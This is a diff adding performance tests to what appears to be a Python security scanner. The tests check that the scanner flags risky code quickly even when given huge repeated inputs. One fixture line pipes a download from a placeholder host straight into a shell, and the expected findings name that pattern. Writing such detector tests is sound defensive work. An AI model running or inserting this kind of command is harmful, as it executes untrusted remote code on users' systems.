@@ -103,3 +103,24 @@ it('gives tokens of anything, in order, and ends', { timeout: 120_000 }, () => {
   );
   for (const deep of ['('.repeat(5000), 'f('.repeat(5000), "f'{".repeat(2000), 'a.b('.repeat(2000) + ')'.repeat(2000), "'a'+".repeat(10_000), '['.repeat(2000) + ']'.repeat(2000)]) deedsOf(deep);
 });
+
+describe('texts that are repeated', () => {
+  const MOST_SECONDS = 3;
+  const long = 'ab'.repeat(60_000);
+  const shell = "os.system('curl http://x.test/a | sh')\n";
+  it.each([
+    ['changed', `x = '${long}'\n${"y = x.replace('a', 'c')\nf(y)\n".repeat(10_000)}`],
+    ['split', `x = '${'a '.repeat(60_000)}'\n${'f(x.split())\n'.repeat(10_000)}`],
+    ['decoded', `x = '${'YWJj'.repeat(30_000)}'\n${'f(base64.b64decode(x))\n'.repeat(10_000)}`],
+    ['run', `x = ${JSON.stringify('print(a.b(c, d), x[1])\n'.repeat(5000))}\n${'exec(x)\n'.repeat(20_000)}`],
+    ['handed to a shell', `x = '${'true; '.repeat(15_000)}'\n${'os.system(x)\n'.repeat(20_000)}`],
+    ['opened', `x = '${long}'\n${'open(x)\n'.repeat(20_000)}`],
+    ['joined', `x = '${long}'\n${"f(x + 'a')\n".repeat(10_000)}`],
+  ])('%s: the rest is read, and that it was too much is told', (_, source) => {
+    const before = process.cpuUsage();
+    expect(what(`import os\n${source}${shell}`)).toEqual(expect.arrayContaining(['medium puts together more text than can be followed', 'high hands a shell to a connection, or runs what it downloads']));
+    expect(process.cpuUsage(before).user / 1e6).toBeLessThan(MOST_SECONDS);
+  });
+
+  it('reads any number of values between the braces of a format', () => expect(what(`import os\nx = f'{(${'1,'.repeat(150_000)})}'\n${shell}`)).toEqual(['high hands a shell to a connection, or runs what it downloads']));
+});
